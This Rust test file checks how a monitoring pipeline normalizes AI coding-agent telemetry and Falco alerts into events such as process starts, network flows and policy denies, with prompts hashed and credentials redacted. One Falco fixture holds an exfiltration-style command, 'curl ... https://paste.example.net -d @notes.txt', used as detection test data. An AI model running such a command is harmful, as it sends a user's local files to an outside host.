//! The mappings over what the producers really sent: `schemas/testdata/claude_code/` holds
//! Claude Code 2.1.332's own OTLP/HTTP JSON exports (one run allowed to run `curl`
//! in bypass mode, one refused by its configuration), captured unchanged.

use std::sync::Arc;

use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
use serde_json::{Map, Value};

use crate::content::{ContentPolicy, Unlisted};
use crate::provenance::{HostPatterns, HostScope, Provenance};
use crate::{EventBatchBuilder, EventRecord};

type Row = Map<String, Value>;

/// A builder as ingest makes one: hashing content, the credential naming one host.
fn builder() -> EventBatchBuilder {
    let mut provenance = Provenance::unauthenticated("otlp_http");
    provenance.hosts = HostScope::Only(Arc::new(HostPatterns::new(&["wks-0042"])));
    provenance.producer = Some("wks-0042-agents".into());
    EventBatchBuilder::with_capacity(64)
        .with_provenance(provenance)
        .with_content_policy(Arc::new(ContentPolicy::new::<&str>(
            &[],
            Unlisted::Hash,
            Some(b"test-key-0123456789".to_vec()),
        )))
}

fn rows(builder: &mut EventBatchBuilder) -> Vec<Row> {
    let batch = builder.finish();
    // The JSON writer cannot name the "UTC" zone; the times are not under test here.
    let keep: Vec<usize> = (0..batch.num_columns())
        .filter(|&column| {
            !matches!(
                batch.schema().field(column).data_type(),
                arrow::datatypes::DataType::Timestamp(..)
            )
        })
        .collect();
    let batch = batch.project(&keep).unwrap();
    let mut writer = arrow::json::ArrayWriter::new(Vec::new());
    writer.write(&batch).unwrap();
    writer.finish().unwrap();
    let data = writer.into_inner();
    if data.is_empty() {
        return Vec::new();
    }
    serde_json::from_slice::<Vec<Row>>(&data).unwrap()
}

fn logs(name: &str) -> Vec<Row> {
    let request: ExportLogsServiceRequest = serde_json::from_str(match name {
        "bypass" => include_str!("../../testdata/claude_code/logs_bypass.json"),
        _ => include_str!("../../testdata/claude_code/logs_reject.json"),
    })
    .unwrap();
    let mut builder = builder();
    let report = crate::otlp::convert_request(&request, 1, &mut builder);
    assert!(report.rejected.is_empty(), "{}", report.message());
    rows(&mut builder)
}

fn traces(name: &str) -> Vec<Row> {
    let request: ExportTraceServiceRequest = serde_json::from_str(match name {
        "bypass" => include_str!("../../testdata/claude_code/traces_bypass.json"),
        _ => include_str!("../../testdata/claude_code/traces_reject.json"),
    })
    .unwrap();
    let mut builder = builder();
    let report = crate::otlp_traces::convert_traces(&request, 1, &mut builder);
    assert!(report.rejected.is_empty(), "{}", report.message());
    rows(&mut builder)
}

fn text<'a>(row: &'a Row, column: &str) -> Option<&'a str> {
    row.get(column).and_then(Value::as_str)
}

fn attribute<'a>(row: &'a Row, key: &str) -> Option<&'a str> {
    row.get("attributes")?.get(key)?.as_str()
}

fn by_event<'a>(rows: &'a [Row], event: &str) -> Vec<&'a Row> {
    rows.iter()
        .filter(|row| attribute(row, "agent.event") == Some(event))
        .collect()
}

#[test]
fn a_shell_tool_running_curl_is_an_agent_caused_process_start() {
    let rows = logs("bypass");
    let result = by_event(&rows, "claude_code.tool_result");
    assert_eq!(result.len(), 1);
    let result = result[0];
    assert_eq!(text(result, "event_name"), Some("process.start"));
    assert_eq!(text(result, "host_id"), Some("wks-0042"), "the credential's one host");
    assert_eq!(
        text(result, "process_command_line"),
        Some("curl -s http://127.0.0.1:14318/probe -o /dev/null")
    );
    assert_eq!(text(result, "process_executable_name"), Some("curl"));
    assert_eq!(text(result, "gen_ai_tool_name"), Some("Bash"));
    assert_eq!(text(result, "gen_ai_tool_call_id"), Some("toolu_stand_in_01"));
    assert_eq!(text(result, "agent_tool_category"), Some("shell"));
    assert_eq!(text(result, "gen_ai_agent_name"), Some("claude-code"));
    let session = text(result, "session_id").unwrap();
    assert_eq!(
        text(result, "gen_ai_agent_id").unwrap(),
        format!("claude-code/{session}")
    );
    assert_eq!(text(result, "user_name"), None, "the installation's hash is no person");
    assert!(attribute(result, "user.id").is_some_and(|id| id.len() == 64));
    assert_eq!(attribute(result, "agent.tool.success"), Some("true"));
    // Its per-session counter is not the host's event.sequence (no false telemetry gap).
    assert!(result.get("event_sequence").is_none_or(Value::is_null), "{result:?}");
    assert_eq!(attribute(result, "agent.event.sequence"), Some("7"));
    // The decision carries the permission mode: bypass.
    let decision = by_event(&rows, "claude_code.tool_decision")[0];
    assert_eq!(text(decision, "event_name"), Some("agent.tool_call"));
    assert_eq!(text(decision, "agent_tool_decision"), Some("accept"));
    assert_eq!(text(decision, "agent_permission_mode"), Some("bypassPermissions"));
    // Everything else Claude Code says is the session's activity.
    for event in ["claude_code.api_request", "claude_code.plugin_loaded"] {
        let row = by_event(&rows, event)[0];
        assert_eq!(text(row, "event_name"), Some("agent.session"), "{event}");
        assert_eq!(text(row, "session_id"), Some(session));
    }
}

#[test]
fn a_refused_tool_call_is_a_policy_deny_in_logs_and_traces() {
    for rows in [logs("reject"), traces("reject")] {
        let denies: Vec<&Row> = rows
            .iter()
            .filter(|row| text(row, "event_name") == Some("policy.decision"))
            .collect();
        assert_eq!(denies.len(), 1, "{rows:#?}");
        let deny = denies[0];
        assert_eq!(text(deny, "policy_decision"), Some("deny"));
        assert_eq!(text(deny, "agent_tool_decision"), Some("reject"));
        assert_eq!(text(deny, "policy_path"), Some("agent/tool_permission"));
        assert_eq!(text(deny, "policy_reason"), Some("tool call refused (config)"));
        assert_eq!(
            text(deny, "gen_ai_tool_name"),
            Some("Bash"),
            "from its parent span in traces"
        );
        assert_eq!(text(deny, "gen_ai_tool_call_id"), Some("toolu_stand_in_01"));
        assert!(
            !rows.iter().any(|row| text(row, "event_name") == Some("process.start")),
            "a refused call did not run"
        );
    }
}

#[test]
fn spans_keep_their_trace_and_the_tool_span_its_command() {
    let rows = traces("bypass");
    assert_eq!(rows.len(), 6, "one event per span");
    let trace = text(&rows[0], "trace_id").unwrap();
    assert_eq!(trace.len(), 32, "hex");
    for row in &rows {
        assert_eq!(text(row, "trace_id"), Some(trace));
        assert_eq!(text(row, "span_id").map(str::len), Some(16));
        assert!(attribute(row, "span.kind").is_some() && attribute(row, "span.status").is_some());
        assert!(attribute(row, "span.duration_ms").is_some());
    }
    let interaction = by_event(&rows, "claude_code.interaction")[0];
    assert_eq!(text(interaction, "event_name"), Some("agent.session"));
    assert!(attribute(interaction, "span.parent_id").is_none(), "the root");
    let tool = by_event(&rows, "claude_code.tool")[0];
    assert_eq!(text(tool, "agent_tool_category"), Some("shell"));
    assert_eq!(
        text(tool, "process_command_line"),
        Some("curl -s http://127.0.0.1:14318/probe -o /dev/null")
    );
    assert!(attribute(tool, "full_command").is_none(), "kept once, redacted");
    let run = by_event(&rows, "claude_code.tool.execution")[0];
    assert_eq!(
        text(run, "event_name"),
        Some("process.start"),
        "the run, with its parent's command"
    );
}

#[test]
fn prompts_and_tool_io_are_hashed_with_their_length_never_stored() {
    let rows = [logs("bypass"), traces("bypass")].concat();
    let stored = serde_json::to_string(&rows).unwrap();
    for content in ["check the endpoint with curl", "Done.", "Check the endpoint"] {
        assert!(!stored.contains(content), "{content:?} stored");
    }
    let prompt = by_event(&rows, "claude_code.user_prompt")[0];
    let hashed = attribute(prompt, "prompt").unwrap();
    assert!(
        hashed.starts_with("hmac-sha256:") && hashed.ends_with(";bytes=28"),
        "{hashed}"
    );
    // The same text, hashed in the span, matches: rules can compare without reading.
    let interaction = by_event(&rows, "claude_code.interaction")[0];
    assert_eq!(attribute(interaction, "user_prompt"), Some(hashed));
}

#[test]
fn the_body_names_the_event_when_nothing_else_does() {
    let mut record = EventRecord::new();
    record.body = Some("file.access".into());
    super::normalize(&mut record);
    assert_eq!(record.event_name.as_deref(), Some("file.access"));
    let mut message = EventRecord::new();
    message.body = Some("user alice logged in".into());
    super::normalize(&mut message);
    assert_eq!(message.event_name, None, "a message is not a name");
}

#[test]
fn every_mapping_is_registered_once_and_named() {
    let mut names: Vec<&str> = super::REGISTRY.iter().map(|mapping| mapping.name()).collect();
    names.sort();
    let count = names.len();
    names.dedup();
    assert_eq!(names.len(), count);
}

#[test]
fn protobuf_logs_map_as_json_logs_do() {
    use prost::Message;
    let request: ExportLogsServiceRequest =
        serde_json::from_str(include_str!("../../testdata/claude_code/logs_bypass.json")).unwrap();
    let mut from_wire = builder();
    let (report, _) = crate::otlp_wire::convert_encoded_request(&request.encode_to_vec(), 1, &mut from_wire).unwrap();
    assert!(report.rejected.is_empty(), "{}", report.message());
    let strip_ids = |rows: Vec<Row>| -> Vec<Row> {
        rows.into_iter()
            .map(|mut row| {
                row.remove("event_id"); // assigned per builder
                row
            })
            .collect()
    };
    assert_eq!(strip_ids(rows(&mut from_wire)), strip_ids(logs("bypass")));
}

fn falco_row(alert: Value) -> Row {
    let flat = crate::falco::alert_to_flat(&alert).unwrap();
    let record = crate::flat::flat_json_to_event(&flat).unwrap();
    let mut builder = builder();
    builder.append(&record, 1).unwrap();
    rows(&mut builder).remove(0)
}

#[test]
fn falco_alerts_become_the_contracts_ebpf_kinds_attributed_to_their_agent() {
    let flow = falco_row(crate::falco::outbound_connection());
    assert_eq!(text(&flow, "event_name"), Some("network.flow"));
    assert_eq!(text(&flow, "host_id"), Some("wks-0042"));
    assert_eq!(text(&flow, "destination_ip"), Some("203.0.113.7"));
    assert_eq!(flow["destination_port"], 443);
    assert_eq!(text(&flow, "network_transport"), Some("tcp"));
    assert_eq!(text(&flow, "process_executable_name"), Some("curl"));
    assert_eq!(text(&flow, "user_name"), Some("alice"));
    assert_eq!(
        text(&flow, "gen_ai_agent_name"),
        Some("claude"),
        "its parent is the agent"
    );
    assert_eq!(text(&flow, "gen_ai_agent_id"), Some("claude/pid-4000"));
    assert_eq!(
        attribute(&flow, "falco.rule"),
        Some("Unexpected outbound connection destination")
    );

    let mut spawn = crate::falco::outbound_connection();
    spawn["output_fields"]["evt.type"] = "execve".into();
    spawn["output_fields"]["proc.pname"] = "bash".into();
    spawn["output_fields"]["proc.aname[2]"] = "codex".into();
    spawn["output_fields"]["proc.apid[2]"] = 3900.into();
    let spawn = falco_row(spawn);
    assert_eq!(text(&spawn, "event_name"), Some("process.start"));
    assert_eq!(
        text(&spawn, "process_command_line"),
        Some("curl -s https://paste.example.net -d @notes.txt")
    );
    assert_eq!(
        text(&spawn, "gen_ai_agent_id"),
        Some("codex/pid-3900"),
        "an ancestor is the agent"
    );

    let mut write = crate::falco::outbound_connection();
    let fields = write["output_fields"].as_object_mut().unwrap();
    fields.insert("evt.type".into(), "openat".into());
    fields.insert("fd.name".into(), "/home/alice/.mcp.json".into());
    fields.insert("evt.arg.flags".into(), "O_WRONLY|O_CREAT|O_TRUNC".into());
    fields.insert("proc.pname".into(), "zsh".into());
    fields.remove("proc.aname[2]");
    let write = falco_row(write);
    assert_eq!(text(&write, "event_name"), Some("file.access"));
    assert_eq!(text(&write, "file_operation"), Some("write"));
    assert_eq!(text(&write, "file_path"), Some("/home/alice/.mcp.json"));
    assert_eq!(text(&write, "gen_ai_agent_id"), None, "no agent in its lineage");
}

#[test]
fn a_guardrail_that_triggered_is_a_policy_deny_and_one_that_passed_an_allow() {
    let verdict = |triggered: bool| -> Row {
        let span = serde_json::json!({
            "time": "2026-01-15T10:00:00Z", "host.id": "wks-0042", "event.name": "apply_guardrail pii",
            "service.name": "support-agent", "gen_ai.operation.name": "apply_guardrail",
            "gen_ai.guardrail.name": "pii", "gen_ai.guardrail.triggered": triggered,
            "gen_ai.conversation.id": "conv-3", "trace.id": "abc"
        });
        let record = crate::flat::flat_json_to_event(&span).unwrap();
        let mut builder = builder();
        builder.append(&record, 1).unwrap();
        rows(&mut builder).remove(0)
    };
    let blocked = verdict(true);
    assert_eq!(text(&blocked, "event_name"), Some("policy.decision"));
    assert_eq!(text(&blocked, "policy_decision"), Some("deny"));
    assert_eq!(text(&blocked, "policy_path"), Some("guardrail/pii"));
    assert_eq!(text(&blocked, "session_id"), Some("conv-3"));
    assert_eq!(text(&verdict(false), "policy_decision"), Some("allow"));
    // The conventions' proposed shape (semantic-conventions PR 3233).
    let proposed = |decision: &str| -> Row {
        let span = serde_json::json!({
            "time": "2026-01-15T10:00:00Z", "host.id": "wks-0042", "event.name": "apply_guardrail Model Armor",
            "service.name": "agent-gateway", "gen_ai.operation.name": "apply_guardrail",
            "gen_ai.guardian.name": "Model Armor", "gen_ai.security.target.type": "tool_call",
            "gen_ai.security.decision.type": decision, "gen_ai.security.decision.reason": "prompt injection"
        });
        let record = crate::flat::flat_json_to_event(&span).unwrap();
        let mut builder = builder();
        builder.append(&record, 1).unwrap();
        rows(&mut builder).remove(0)
    };
    let denied = proposed("deny");
    assert_eq!(text(&denied, "policy_decision"), Some("deny"));
    assert_eq!(text(&denied, "policy_path"), Some("guardrail/Model Armor"));
    assert_eq!(text(&denied, "policy_reason"), Some("prompt injection"));
    for passed in ["allow", "warn", "modify", "audit"] {
        assert_eq!(text(&proposed(passed), "policy_decision"), Some("allow"), "{passed}");
    }
}

#[test]
fn codex_events_map_by_their_own_names() {
    let event = |fields: Value| -> Row {
        let record = crate::flat::flat_json_to_event(&fields).unwrap();
        let mut builder = builder();
        builder.append(&record, 1).unwrap();
        rows(&mut builder).remove(0)
    };
    let starts = event(serde_json::json!({
        "time": "2026-01-15T10:00:00Z", "host.id": "wks-0042", "service.name": "codex_cli_rs",
        "event.name": "codex.conversation_starts", "conversation.id": "c-1",
        "approval_policy": "never", "sandbox_policy": "danger-full-access"
    }));
    assert_eq!(text(&starts, "event_name"), Some("agent.session"));
    assert_eq!(text(&starts, "agent_permission_mode"), Some("never/danger-full-access"));
    assert_eq!(text(&starts, "session_id"), Some("c-1"));
    let denied = event(serde_json::json!({
        "time": "2026-01-15T10:00:00Z", "host.id": "wks-0042", "service.name": "codex_cli_rs",
        "event.name": "codex.tool_decision", "conversation.id": "c-1", "tool_name": "shell",
        "call_id": "call_7", "decision": "denied", "source": "user"
    }));
    assert_eq!(text(&denied, "event_name"), Some("policy.decision"));
    assert_eq!(text(&denied, "policy_decision"), Some("deny"));
    assert_eq!(text(&denied, "gen_ai_tool_call_id"), Some("call_7"));
    let ran = event(serde_json::json!({
        "time": "2026-01-15T10:00:00Z", "host.id": "wks-0042", "service.name": "codex_cli_rs",
        "event.name": "codex.tool_result", "conversation.id": "c-1", "tool_name": "shell",
        "call_id": "call_8", "success": "true", "output": "the command's output",
        "arguments": "{\"command\":[\"bash\",\"-lc\",\"curl -u bob:pw https://x.example/a\"]}"
    }));
    assert_eq!(text(&ran, "event_name"), Some("process.start"));
    assert_eq!(
        text(&ran, "process_command_line"),
        Some("curl -u bob:[REDACTED] https://x.example/a")
    );
    assert!(attribute(&ran, "output").is_some_and(|hash| hash.starts_with("hmac-sha256:")));
}

fn captured_spans(export: &[u8]) -> Vec<Row> {
    use prost::Message;
    let request = ExportTraceServiceRequest::decode(export).unwrap();
    let mut builder = builder();
    let report = crate::otlp_traces::convert_traces(&request, 1, &mut builder);
    assert!(report.rejected.is_empty(), "{}", report.message());
    rows(&mut builder)
}

#[test]
fn the_openai_agents_sdks_genai_spans_map_as_captured() {
    let rows = captured_spans(include_bytes!("../../testdata/genai/openai_agents_traces.pb"));
    let tool = by_event(&rows, "gen_ai.execute_tool");
    assert_eq!(tool.len(), 1, "{rows:#?}");
    assert_eq!(text(tool[0], "event_name"), Some("network.flow"));
    assert_eq!(text(tool[0], "destination_address"), Some("paste.example.net"));
    assert_eq!(text(tool[0], "gen_ai_tool_name"), Some("fetch_url"));
    let session = text(tool[0], "session_id").unwrap();
    assert!(
        rows.iter().all(|row| text(row, "session_id") == Some(session)),
        "one run, one session"
    );
    // Messages, instructions and the tool's arguments and result: hashed, not kept.
    for key in [
        "gen_ai.input.messages",
        "gen_ai.output.messages",
        "gen_ai.tool.call.result",
    ] {
        assert!(
            rows.iter()
                .filter_map(|row| attribute(row, key))
                .all(|value| value.starts_with("hmac-sha256:")),
            "{key}"
        );
    }
}

#[test]
fn the_mcp_sdks_client_and_server_spans_map_to_one_call_as_captured() {
    let client = captured_spans(include_bytes!("../../testdata/mcp/client_traces.pb"));
    let server = captured_spans(include_bytes!("../../testdata/mcp/server_traces.pb"));
    let call = |rows: &[Row]| -> Row { by_event(rows, "mcp.tools/call")[0].clone() };
    let (sent, served) = (call(&client), call(&server));
    assert_eq!(
        text(&sent, "gen_ai_tool_name"),
        Some("read_file"),
        "from the client span's name"
    );
    assert_eq!(text(&served, "gen_ai_tool_name"), Some("read_file"));
    assert_eq!(text(&sent, "gen_ai_tool_call_id"), text(&served, "gen_ai_tool_call_id"));
    assert_eq!(text(&sent, "session_id"), text(&served, "session_id"));
    assert_eq!(attribute(&sent, "span.kind"), Some("client"));
    assert_eq!(attribute(&served, "span.kind"), Some("server"));
}
